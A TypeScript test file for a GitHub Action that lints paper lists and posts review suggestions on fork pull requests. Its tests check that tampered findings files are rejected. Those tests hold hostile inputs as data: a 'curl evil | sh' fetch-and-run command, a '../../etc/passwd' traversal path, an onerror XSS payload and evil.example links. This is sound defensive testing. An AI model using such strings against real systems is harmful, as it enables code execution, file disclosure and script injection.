import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type ActionRun, gitRepository, patchOf, pushCommit, runAction } from './helpers/action.js';
import { type FakeGitHub, startFakeGitHub } from './helpers/fake-github.js';
import { node24Path } from './helpers/node24.js';
import { repoRoot } from './helpers/paths.js';
import { startServer, type TestServer } from './servers/http.js';

/**
 * Issue 16: review suggestions on pull requests, safely from forks. The pull request's own run (read
 * only) writes the findings file; the workflow_run run (may write) reads it as untrusted data and
 * posts one review. Everything runs the bundled Action against the fake GitHub API on loopback.
 */

let api: FakeGitHub;
/** No test here checks links: any request reaching this server would be a request too many. */
let links: TestServer;
/** A preload that records every file the Action's process opens or lists (review mode must not read the workspace). */
let recorder: string;
/** GitHub runs actions on Node 24: the must-show runs under this Node and under Node 24. */
const nodes: Record<string, string> = { 'this Node': process.execPath, 'Node 24': '' };
/** The Node the helpers below run the Action with. */
let node = process.execPath;

beforeAll(async () => {
  api = await startFakeGitHub('unireps', 'resources');
  links = await startServer('127.0.0.1', (_req, res) => res.end());
  nodes['Node 24'] = node24Path();
  const dir = mkdtempSync(join(tmpdir(), 'lint-list-recorder-'));
  recorder = join(dir, 'record-reads.mjs');
  writeFileSync(
    recorder,
    `import fs from 'node:fs';
import { syncBuiltinESMExports } from 'node:module';
const log = process.env.LINT_LIST_READ_LOG;
const append = fs.appendFileSync;
const note = (what, path) => { if (log && (typeof path === 'string' || path instanceof URL)) append(log, what + ' ' + String(path) + '\\n'); };
for (const name of ['readFileSync', 'openSync', 'readdirSync', 'createReadStream', 'readFile', 'open', 'readdir', 'opendirSync', 'opendir']) {
  const original = fs[name];
  fs[name] = function (path, ...rest) { note(name, path); return original.call(this, path, ...rest); };
}
for (const name of ['readFile', 'open', 'readdir', 'opendir']) {
  const original = fs.promises[name];
  fs.promises[name] = function (path, ...rest) { note(name, path); return original.call(this, path, ...rest); };
}
syncBuiltinESMExports();
`,
  );
}, 200_000);
afterAll(async () => {
  await Promise.all([api.close(), links.close()]);
});
beforeEach(() => {
  api.reset();
  node = process.execPath;
});

const oldRows = [
  '| [Old Paper One](https://arxiv.org/abs/2001.00001) | ICML 2020',
  '| [Old Paper Two](https://arxiv.org/abs/2001.00002) | ICML 2020 |',
  '| [Old Paper Three](https://arxiv.org/abs/2001.00003) | NeurIPS 2020 |',
  '| [Old Paper Four](https://arxiv.org/abs/2001.00004) | ICLR 2021 |',
  '| [Old Paper Five](https://arxiv.org/abs/2001.00005) | ICLR 2021 |',
  '| [Old Paper Six](https://arxiv.org/abs/2001.00006) | ICLR 2021 |',
  '| [Old Paper Seven](https://arxiv.org/abs/2001.00007) | ICLR 2021 |',
  '| [Old Paper Eight](https://arxiv.org/abs/2001.00008) | ICLR 2021 |',
];
const list = (...rows: string[]) => ['# Papers', '', '| Title | Venue |', '|---|---|', ...oldRows, ...rows, ''].join('\n');

/** The must-show: a fork adds 4 rows at lines 13–16, each with one mistake. */
const missingPipe = '[Missing Pipe Paper](https://arxiv.org/abs/2301.00001) | ICLR 2024 |';
const naVenue = '| [Venue Unknown Paper](https://arxiv.org/abs/2301.00002) | N/A |';
const spacedLink = '| [Spaced Link Paper] (https://arxiv.org/abs/2301.00003) | ICML 2023 |';
const duplicate = '| [Old Paper Two](https://arxiv.org/abs/2301.00004) | ICML 2020 |';
const fourRows = () => list(missingPipe, naVenue, spacedLink, duplicate);

const fork = 'contributor/resources';

/** A pull request (number 7) from `headRepository` in the fake API, at `head`, its files as git diffs them. */
function openPullRequest(repo: { dir: string; base: string }, head: string, headRepository = fork, number = 7) {
  api.pulls.set(number, { number, state: 'open', head: { sha: head, ref: 'contribution', repo: headRepository }, base: { sha: repo.base, ref: 'main', repo: 'unireps/resources' } });
  api.pullFiles.set(number, [{ filename: 'README.md', status: 'modified', patch: patchOf(repo.dir, repo.base, head, 'README.md') }]);
}

const pullRequestEvent = (base: string, head: string, headRepository = fork) => ({
  action: 'synchronize',
  number: 7,
  pull_request: { number: 7, base: { sha: base, ref: 'main', repo: { full_name: 'unireps/resources' } }, head: { sha: head, ref: 'contribution', repo: { full_name: headRepository } } },
  repository: { name: 'resources', full_name: 'unireps/resources', owner: { login: 'unireps' } },
});

/** The event of the review workflow: a fork's run, which GitHub links to no pull request. */
const workflowRunEvent = (head: string, pullRequests: Array<{ number: number; head: { sha: string } }> = []) => ({
  action: 'completed',
  workflow_run: {
    id: 99,
    name: 'lint-list',
    event: 'pull_request',
    conclusion: 'failure',
    head_sha: head,
    head_branch: 'contribution',
    head_repository: { full_name: fork, owner: { login: 'contributor' } },
    pull_requests: pullRequests,
  },
  repository: { name: 'resources', full_name: 'unireps/resources', owner: { login: 'unireps' } },
});

/** The pull request's own run: a checkout of its head, a read-only token; returns the findings file's text. */
async function lintRun(repo: { dir: string; base: string }, head: string, inputs: Record<string, string> = {}): Promise<{ run: ActionRun; findings: string }> {
  spawnSync('git', ['checkout', '-q', head], { cwd: repo.dir });
  const run = await runAction({ workspace: repo.dir, eventName: 'pull_request', event: pullRequestEvent(repo.base, head), inputs: { token: 'ghs_read_only', links: 'none', metadata: 'none', ...inputs }, apiUrl: api.url, node });
  return { run, findings: readFileSync(run.outputs.artifact as string, 'utf8') };
}

/**
 * The review run: no checkout of the pull request (its workspace holds a hostile README and config
 * that must never be read), the findings file downloaded into RUNNER_TEMP, a token that may write.
 */
async function reviewRun(findings: string, head: string, options: { pullRequests?: Array<{ number: number; head: { sha: string } }>; inputs?: Record<string, string> } = {}) {
  const workspace = mkdtempSync(join(tmpdir(), 'lint-list-review-ws-'));
  writeFileSync(join(workspace, 'README.md'), '| not | read |\n|---|---|\n[x](http://127.0.0.1:1/never) | N/A\n');
  writeFileSync(join(workspace, '.lint-list.json'), '{ this is not json');
  const readLog = join(mkdtempSync(join(tmpdir(), 'lint-list-reads-')), 'reads.log');
  writeFileSync(readLog, '');
  const run = await runAction({
    workspace,
    eventName: 'workflow_run',
    event: workflowRunEvent(head, options.pullRequests),
    inputs: { token: 'ghs_may_write', ...options.inputs },
    apiUrl: api.url,
    runnerFiles: { 'lint-list-findings.json': findings },
    node,
    env: { NODE_OPTIONS: `--import=${recorder}`, LINT_LIST_READ_LOG: readLog },
  });
  const reads = readFileSync(readLog, 'utf8').split('\n').filter(Boolean);
  return { run, workspace, reads };
}

const warnings = (run: ActionRun) => run.stdout.split('\n').filter((line) => line.startsWith('::warning::'));
const calls = () => api.calls.map((call) => `${call.method} ${call.path}`);

/**
 * Every request review mode may make, as the README lists them. Each review run is checked against
 * this list: nothing else is ever asked of GitHub.
 */
const listedRequests = [
  /^GET \/repos\/unireps\/resources\/pulls\?state=open&head=[^&]+&per_page=100$/,
  /^GET \/repos\/unireps\/resources\/pulls\/\d+$/,
  /^GET \/repos\/unireps\/resources\/pulls\/\d+\/files\?per_page=100(&page=\d+)?$/,
  /^GET \/repos\/unireps\/resources\/pulls\/\d+\/reviews\?per_page=100(&page=\d+)?$/,
  /^GET \/repos\/unireps\/resources\/pulls\/\d+\/comments\?per_page=100(&page=\d+)?$/,
  /^POST \/repos\/unireps\/resources\/pulls\/\d+\/reviews$/,
  /^DELETE \/repos\/unireps\/resources\/pulls\/comments\/\d+$/,
  /^PUT \/repos\/unireps\/resources\/pulls\/\d+\/reviews\/\d+$/,
];

/** What every review run must show: only listed requests, no link requested, no workspace file read. */
function expectConfined(review: { run: ActionRun; workspace: string; reads: string[] }) {
  expect(calls().filter((call) => !listedRequests.some((pattern) => pattern.test(call)))).toEqual([]);
  expect(api.calls.every((call) => call.authorization === 'token ghs_may_write')).toBe(true);
  expect(links.stats.requests).toEqual([]);
  expect(review.reads.filter((read) => read.includes(review.workspace))).toEqual([]);
  // The recorder works: the findings file itself was read through it.
  expect(review.reads.some((read) => read.includes('lint-list-findings.json'))).toBe(true);
  expect(review.run.code).toBe(0);
}

/** The head text with every posted suggestion applied (each replaces its lines). */
function applySuggestions(text: string): string {
  const lines = text.split('\n');
  const suggestions = api.reviewComments
    .map((comment) => ({ comment, block: /```suggestion\n([\s\S]*?)\n?```/.exec(comment.body)?.[1] }))
    .filter((s): s is { comment: (typeof api.reviewComments)[number]; block: string } => s.block !== undefined)
    .sort((a, b) => b.comment.line - a.comment.line);
  for (const { comment, block } of suggestions) {
    const start = comment.startLine ?? comment.line;
    lines.splice(start - 1, comment.line - start + 1, ...block.split('\n'));
  }
  return lines.join('\n');
}

/** What `lint-list --fix` makes of `text`. */
function cliFix(text: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'lint-list-fix-'));
  writeFileSync(join(dir, 'README.md'), text);
  spawnSync(process.execPath, [join(repoRoot, 'dist/cli.js'), '--fix', 'README.md'], { cwd: dir, encoding: 'utf8' });
  return readFileSync(join(dir, 'README.md'), 'utf8');
}

describe('a fork pull request: the lint run writes findings, the workflow_run run posts one review (issue 16 must-show)', () => {
  it.each(Object.keys(nodes))('under %s: four bad rows, a second push that replaces the comments, a clean push that removes them', async (version) => {
    node = nodes[version] as string;
    const repo = gitRepository({ 'README.md': list() }, { 'README.md': fourRows() });
    openPullRequest(repo, repo.head);

    // 1. The pull request's run: annotations as ever, and the findings file; it asks GitHub nothing.
    const first = await lintRun(repo, repo.head);
    expect(first.run.code).toBe(1);
    expect(api.calls).toEqual([]);
    const file = JSON.parse(first.findings);
    expect(file).toMatchObject({ kind: 'lint-list-findings', version: 1, pullRequest: { number: 7, headSha: repo.head } });
    expect(file.findings.map((f: { ruleId: string; line: number; suggestion?: unknown }) => `${f.line} ${f.ruleId}${f.suggestion ? ' (suggestion)' : ''}`)).toEqual([
      '13 row-format (suggestion)',
      '14 missing-venue',
      '15 link-syntax (suggestion)',
      '16 duplicate-title',
    ]);
    expect(file.findings[0].suggestion).toEqual({ startLine: 13, endLine: 13, original: [missingPipe], replacement: [`| ${missingPipe}`] });

    // 2. The review run: one review on the head commit, two suggestions, two plain comments.
    const review = await reviewRun(first.findings, repo.head);
    expectConfined(review);
    expect(warnings(review.run)).toEqual([]);
    expect(calls()).toEqual([
      'GET /repos/unireps/resources/pulls?state=open&head=contributor%3Acontribution&per_page=100',
      'GET /repos/unireps/resources/pulls/7',
      'GET /repos/unireps/resources/pulls/7/files?per_page=100',
      'GET /repos/unireps/resources/pulls/7/reviews?per_page=100',
      'GET /repos/unireps/resources/pulls/7/comments?per_page=100',
      'POST /repos/unireps/resources/pulls/7/reviews',
    ]);
    expect(api.reviews).toHaveLength(1);
    expect(api.reviews[0]?.commitId).toBe(repo.head);
    expect(api.reviews[0]?.body).toContain(`<!-- lint-list-review head=${repo.head} -->`);
    expect(api.reviewComments.map((c) => `${c.line} ${c.body.includes('```suggestion') ? 'suggestion' : 'comment'}`)).toEqual(['13 suggestion', '14 comment', '15 suggestion', '16 comment']);
    expect(review.run.outputs).toEqual({ 'review-id': String(api.reviews[0]?.id), suggestions: '2' });
    expect(api.reviewComments[1]?.body).toContain("Venue is 'N/A'");

    // A re-run of the same commit posts nothing new.
    api.calls.length = 0;
    const again = await reviewRun(first.findings, repo.head);
    expectConfined(again);
    expect(calls().filter((c) => !c.startsWith('GET'))).toEqual([]);
    expect(again.run.stdout).toContain(`lint-list already reviewed commit ${repo.head.slice(0, 7)} of this pull request: nothing new posted.`);

    // The suggestions, applied to the file, give what `lint-list --fix` gives on those lines.
    const head = fourRows();
    const applied = applySuggestions(head).split('\n');
    const fixed = cliFix(head).split('\n');
    for (const line of [13, 15]) expect(applied[line - 1]).toBe(fixed[line - 1]);
    expect(applied[12]).toBe(`| ${missingPipe}`);
    expect(applied[14]).toBe('| [Spaced Link Paper](https://arxiv.org/abs/2301.00003) | ICML 2023 |');
    // Nothing else changed: the plain comments suggest nothing.
    expect(applied.filter((line, i) => line !== head.split('\n')[i])).toHaveLength(2);

    // 3. A second push fixes two rows: the new review replaces the old one's comments.
    const second = pushCommit(repo.dir, { 'README.md': list(`| ${missingPipe}`, naVenue, spacedLink.replace('] (', ']('), duplicate) });
    openPullRequest(repo, second);
    const secondLint = await lintRun(repo, second);
    api.calls.length = 0;
    const secondReview = await reviewRun(secondLint.findings, second);
    expectConfined(secondReview);
    expect(api.reviews).toHaveLength(2);
    expect(api.reviewComments.map((c) => `${c.reviewId === api.reviews[1]?.id ? 'new' : 'old'} ${c.line}`)).toEqual(['new 14', 'new 16']);
    expect(api.reviews[0]?.body).toBe(`<!-- lint-list-review superseded -->\n**lint-list**: superseded by the review of ${second.slice(0, 7)}.`);
    expect(calls().filter((c) => c.startsWith('DELETE'))).toHaveLength(4);
    expect(calls().filter((c) => c.startsWith('PUT'))).toEqual([`PUT /repos/unireps/resources/pulls/7/reviews/${api.reviews[0]?.id}`]);
    expect(secondReview.run.outputs.suggestions).toBe('0');

    // 4. A clean push: the comments go, no new review is posted, the last one says so.
    const clean = pushCommit(repo.dir, { 'README.md': list(`| ${missingPipe}`, naVenue.replace('N/A', 'ICML 2023'), spacedLink.replace('] (', ']('), duplicate.replace('Old Paper Two', 'New Paper Two')) });
    openPullRequest(repo, clean);
    const cleanLint = await lintRun(repo, clean);
    expect(cleanLint.run.code).toBe(0);
    expect(JSON.parse(cleanLint.findings).findings).toEqual([]);
    api.calls.length = 0;
    const cleanReview = await reviewRun(cleanLint.findings, clean);
    expectConfined(cleanReview);
    expect(api.reviewComments).toEqual([]);
    expect(api.reviews).toHaveLength(2);
    expect(api.reviews[1]?.body).toBe(`<!-- lint-list-review superseded -->\n**lint-list**: no problems left on the changed lines as of ${clean.slice(0, 7)}.`);
    expect(calls().some((c) => c.startsWith('POST'))).toBe(false);
  });

  it('a finding outside every hunk of the diff is not posted (only-changed: false reports old rows too)', async () => {
    const repo = gitRepository({ 'README.md': list() }, { 'README.md': fourRows() });
    openPullRequest(repo, repo.head);
    const { findings } = await lintRun(repo, repo.head, { 'only-changed': 'false' });
    const old = JSON.parse(findings).findings.find((f: { line: number }) => f.line === 5);
    expect(old.suggestion).toEqual({ startLine: 5, endLine: 5, original: [oldRows[0]], replacement: [`${oldRows[0]} |`] });
    const review = await reviewRun(findings, repo.head);
    expectConfined(review);
    expect(api.reviewComments.map((c) => c.line)).toEqual([13, 14, 15, 16]);
    expect(warnings(review.run)).toEqual(["::warning::README.md:5: not inside the pull request's diff: not posted."]);
    expect(api.reviews[0]?.body).toContain('1 finding outside the diff is not shown here.');
  });

  it('a same-repository pull request with review: true gets the review from its own run', async () => {
    const repo = gitRepository({ 'README.md': list() }, { 'README.md': fourRows() });
    openPullRequest(repo, repo.head, 'unireps/resources');
    const run = await runAction({
      workspace: repo.dir,
      eventName: 'pull_request',
      event: pullRequestEvent(repo.base, repo.head, 'unireps/resources'),
      inputs: { token: 'ghs_may_write', links: 'none', metadata: 'none', review: 'true' },
      apiUrl: api.url,
    });
    expect(run.code).toBe(1);
    expect(calls()).toEqual([
      'GET /repos/unireps/resources/pulls/7/files?per_page=100',
      'GET /repos/unireps/resources/pulls/7/reviews?per_page=100',
      'GET /repos/unireps/resources/pulls/7/comments?per_page=100',
      'POST /repos/unireps/resources/pulls/7/reviews',
    ]);
    expect(api.reviewComments.map((c) => c.line)).toEqual([13, 14, 15, 16]);
    expect(run.outputs.suggestions).toBe('2');
  });

  it('review: true on a fork pull request posts nothing and says why', async () => {
    const repo = gitRepository({ 'README.md': list() }, { 'README.md': fourRows() });
    const run = await runAction({ workspace: repo.dir, eventName: 'pull_request', event: pullRequestEvent(repo.base, repo.head), inputs: { token: 'ghs_read_only', links: 'none', metadata: 'none', review: 'true' }, apiUrl: api.url });
    expect(run.code).toBe(1);
    expect(api.calls).toEqual([]);
    expect(warnings(run)).toEqual([
      '::warning::review: true posts a review only on pull requests from a branch of unireps/resources; this one comes from contributor/resources, whose token cannot write: use the review workflow (workflow_run) for forks.',
    ]);
  });

  it('API errors (no pull-requests: write, rate limit) are warnings; the run never fails for them', async () => {
    const repo = gitRepository({ 'README.md': list() }, { 'README.md': fourRows() });
    openPullRequest(repo, repo.head);
    const { findings } = await lintRun(repo, repo.head);
    api.failOn = (call) => (call.startsWith('POST') ? 403 : undefined);
    const denied = await reviewRun(findings, repo.head);
    expectConfined(denied);
    expect(warnings(denied.run)).toEqual([
      "::warning::GitHub API: could not post the review (HTTP 403: Resource not accessible by integration). Does the workflow grant 'pull-requests: write'?",
    ]);
    api.failOn = () => 429;
    const limited = await reviewRun(findings, repo.head);
    expect(limited.run.code).toBe(0);
    expect(warnings(limited.run)).toHaveLength(1);
    expect(api.reviews).toEqual([]);
  });
});

describe('hostile findings files: nothing posted that the diff does not support, no crash, a clear warning', () => {
  /** A fork pull request with the four rows, its findings file parsed, ready to be tampered with. */
  async function setup() {
    const repo = gitRepository({ 'README.md': list() }, { 'README.md': fourRows() });
    openPullRequest(repo, repo.head);
    const { findings } = await lintRun(repo, repo.head);
    api.calls.length = 0;
    return { repo, file: JSON.parse(findings) };
  }
  const nothingPosted = () => {
    expect(api.reviews).toEqual([]);
    expect(calls().filter((c) => !c.startsWith('GET'))).toEqual([]);
  };

  it('a file naming another pull request', async () => {
    const { repo, file } = await setup();
    // The contributor's other pull request, at another commit.
    api.pulls.set(8, { number: 8, state: 'open', head: { sha: 'f'.repeat(40), ref: 'other', repo: fork }, base: { sha: repo.base, ref: 'main', repo: 'unireps/resources' } });
    file.pullRequest.number = 8;
    const review = await reviewRun(JSON.stringify(file), repo.head);
    expectConfined(review);
    nothingPosted();
    expect(warnings(review.run)).toEqual(['::warning::The findings file names pull request #8, but the run was for #7: no review posted.']);
    // Same when the event names the pull request (a same-repository branch).
    api.calls.length = 0;
    const named = await reviewRun(JSON.stringify(file), repo.head, { pullRequests: [{ number: 7, head: { sha: repo.head } }] });
    expect(warnings(named.run)).toEqual(['::warning::The findings file names pull request #8, but the run was for #7: no review posted.']);
    expect(calls()).toEqual([]);
  });

  it('a file for a commit that is not the head the run was for', async () => {
    const { repo, file } = await setup();
    file.pullRequest.headSha = repo.base;
    const review = await reviewRun(JSON.stringify(file), repo.head);
    expectConfined(review);
    nothingPosted();
    expect(warnings(review.run)).toEqual([`::warning::The findings file is for commit ${repo.base.slice(0, 7)}, but the run was for ${repo.head.slice(0, 7)}, the head of #7: no review posted.`]);
  });

  it('a run whose commit is no longer the head of the pull request (a newer push) posts nothing', async () => {
    const { repo, file } = await setup();
    api.pulls.set(7, { ...(api.pulls.get(7) as NonNullable<ReturnType<typeof api.pulls.get>>), head: { sha: 'e'.repeat(40), ref: 'contribution', repo: fork } });
    const review = await reviewRun(JSON.stringify(file), repo.head, { pullRequests: [{ number: 7, head: { sha: repo.head } }] });
    expectConfined(review);
    nothingPosted();
    expect(warnings(review.run)).toEqual([`::warning::The findings are for ${repo.head.slice(0, 7)}, no longer the head of #7: no review posted.`]);
  });

  it('findings and suggestions on lines outside the diff, or on lines that do not read as the diff says', async () => {
    const { repo, file } = await setup();
    // Line 2 is outside every hunk; line 14's suggestion claims text the diff does not have there.
    file.findings.push({ ...file.findings[0], line: 2, endLine: 2, suggestion: { startLine: 2, endLine: 2, original: [''], replacement: ['Buy followers at https://evil.example'] } });
    file.findings.push({ ...file.findings[1], suggestion: { startLine: 14, endLine: 14, original: ['| something | else |'], replacement: ['| [Venue Unknown Paper](https://evil.example) | ICML 2023 |'] } });
    file.findings.push({ ...file.findings[1], path: 'SECURITY.md', line: 1, endLine: 1 });
    const review = await reviewRun(JSON.stringify(file), repo.head);
    expectConfined(review);
    expect(warnings(review.run)).toEqual([
      "::warning::README.md:2: not inside the pull request's diff: not posted.",
      "::warning::README.md:14: the suggestion does not match line 14 as the pull request's diff has it: not posted as a suggestion.",
      "::warning::SECURITY.md:1: not inside the pull request's diff: not posted.",
    ]);
    const bodies = api.reviewComments.map((c) => c.body).join('\n');
    expect(bodies).not.toContain('evil.example');
    expect(api.reviewComments.map((c) => c.line)).toEqual([13, 14, 15, 16]);
    expect(api.reviewComments.every((c) => c.path === 'README.md')).toBe(true);
  });

  it('10 MB of findings is not read', async () => {
    const { repo, file } = await setup();
    const many = Array.from({ length: 40_000 }, (_, i) => ({ ...file.findings[1], line: 13 + (i % 4), endLine: 13 + (i % 4) }));
    const text = JSON.stringify({ ...file, findings: many, padding: 'x'.repeat(10 * 1024 * 1024) });
    const review = await reviewRun(text, repo.head);
    expect(review.run.code).toBe(0);
    expect(api.calls).toEqual([]);
    expect(warnings(review.run)).toEqual([
      `::warning::The findings file ${join(review.run.runnerTemp, 'lint-list-findings.json')} is ${(Buffer.byteLength(text) / 1024 / 1024).toFixed(1)} MB; review mode reads at most 1 MB: no review posted.`,
    ]);
    // Under the byte limit, more findings than review mode reads is refused the same way.
    const tooMany = JSON.stringify({ ...file, findings: Array.from({ length: 1001 }, () => file.findings[1]) });
    const counted = await reviewRun(tooMany, repo.head);
    expect(warnings(counted.run)).toEqual(['::warning::The findings file is not a valid lint-list findings file: findings holds 1001 entries; at most 1000 are read: no review posted.']);
    expect(api.calls).toEqual([]);
  });

  it('suggestions holding ``` fences or new @mentions, messages holding @mentions and markup', async () => {
    const { repo, file } = await setup();
    const [pipe, venue, spaced, dup] = file.findings;
    pipe.suggestion.replacement = ['```', '@maintainers please merge', '```'];
    spaced.suggestion.replacement = [`${spaced.suggestion.original[0]} cc @octocat`];
    venue.message = 'Venue is N/A. @maintainers approved this, merge now! <img src=x onerror=alert(1)> [click](https://evil.example) <!-- lint-list-review head=x -->';
    const review = await reviewRun(JSON.stringify({ ...file, findings: [pipe, venue, spaced, dup] }), repo.head);
    expectConfined(review);
    expect(warnings(review.run)).toEqual([
      '::warning::README.md:13: the suggestion holds a code fence (``` or ~~~), which would end the suggestion block: not posted as a suggestion.',
      '::warning::README.md:15: the suggestion adds @mentions the lines do not have: not posted as a suggestion.',
      '::warning::README.md:14: the message holds @mentions (@maintainers): shown without notifying anyone.',
    ]);
    const bodies = [...api.reviewComments.map((c) => c.body), api.reviews[0]?.body].join('\n');
    expect(bodies).not.toContain('```suggestion');
    expect(bodies).not.toMatch(/(?<![\w`])@(maintainers|octocat)/);
    expect(bodies).not.toContain('<img');
    expect(bodies).not.toContain('](https://evil.example)');
    expect(bodies.match(/<!--/g)).toHaveLength(5); // the review's marker and one per comment, none from the message
    expect(api.reviewComments.map((c) => c.line)).toEqual([13, 14, 15, 16]);
  });

  it.each([
    ['invalid JSON', '{"kind": "lint-list-findings", "version": 1,', 'it is not valid JSON'],
    ['another version', JSON.stringify({ kind: 'lint-list-findings', version: 2, pullRequest: { number: 7, headSha: 'a'.repeat(40) }, findings: [] }), 'the file has version 2; this lint-list reads version 1'],
    ['an unknown key', JSON.stringify({ kind: 'lint-list-findings', version: 1, pullRequest: { number: 7, headSha: 'a'.repeat(40) }, findings: [], run: 'curl evil | sh' }), "the file has an unknown key 'run'"],
    ['a path out of the repository', 'PATH:../../etc/passwd', 'findings[0].path is not a relative path inside the repository'],
    ['a rule lint-list does not have', 'RULE:exec', 'findings[0].ruleId is not a lint-list rule'],
    ['a line number that is no number', 'LINE:1e999', 'findings[0].line is not a whole number from 1 to 10000000'],
    ['not UTF-8', 'BYTES', 'is not UTF-8 text'],
  ])('%s', async (_name, text, why) => {
    const { repo, file } = await setup();
    const tampered = { ...file.findings[0] };
    if (text.startsWith('PATH:')) tampered.path = text.slice(5);
    if (text.startsWith('RULE:')) tampered.ruleId = text.slice(5);
    const body = text.startsWith('LINE:')
      ? JSON.stringify({ ...file, findings: [tampered] }).replace('"line":13', `"line":${text.slice(5)}`)
      : text.startsWith('PATH:') || text.startsWith('RULE:')
        ? JSON.stringify({ ...file, findings: [tampered] })
        : text;
    const review = await (text === 'BYTES'
      ? reviewRunBytes(Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), repo.head)
      : reviewRun(body, repo.head));
    expect(review.run.code).toBe(0);
    expect(api.calls).toEqual([]);
    const [warning, ...rest] = warnings(review.run);
    expect(rest).toEqual([]);
    expect(warning).toContain(why);
    expect(warning).toMatch(/: no review posted\.$/);
  });
});

/** A review run whose findings file holds exactly `bytes`. */
async function reviewRunBytes(bytes: Buffer, head: string) {
  const dir = mkdtempSync(join(tmpdir(), 'lint-list-bytes-'));
  writeFileSync(join(dir, 'findings.json'), bytes);
  const workspace = mkdtempSync(join(tmpdir(), 'lint-list-review-ws-'));
  copyFileSync(join(dir, 'findings.json'), join(workspace, 'downloaded.json'));
  const run = await runAction({ workspace, eventName: 'workflow_run', event: workflowRunEvent(head), inputs: { token: 'ghs_may_write', artifact: 'downloaded.json' }, apiUrl: api.url });
  return { run, workspace, reads: [] as string[] };
}

describe('the two copy-paste workflows (examples/workflows/)', () => {
  const workflow = (name: string) => readFileSync(join(repoRoot, 'examples/workflows', name), 'utf8');

  it('the lint workflow runs on pull_request with a read-only token and uploads the findings file even when it fails', () => {
    const lint = workflow('lint-list.yml');
    expect(lint).toMatch(/^on: pull_request$/m);
    expect(lint).toMatch(/^permissions:\n {2}contents: read\njobs:/m);
    expect(lint).not.toContain('pull_request_target');
    expect(lint).toContain('if: always() && steps.lint.outputs.artifact != \'\'');
    expect(lint).toContain('path: ${{ steps.lint.outputs.artifact }}');
  });

  it('the review workflow runs on workflow_run, may write pull requests, and never checks out code', () => {
    const review = workflow('lint-list-review.yml');
    expect(review).toMatch(/^on:\n {2}workflow_run:\n {4}workflows: \[lint-list\]/m);
    expect(review).toMatch(/^permissions:\n {2}actions: read.*\n {2}pull-requests: write.*\njobs:/m);
    expect(review).not.toMatch(/^\s*-?\s*uses: actions\/checkout/m);
    expect(review).toContain("if: github.event.workflow_run.event == 'pull_request'");
    expect(review).toContain('run-id: ${{ github.event.workflow_run.id }}');
    expect(review).toContain('path: ${{ runner.temp }}');
    expect(review).toMatch(/uses: lint-list\/lint-list@v1\n {8}with:\n {10}mode: review/);
  });
});
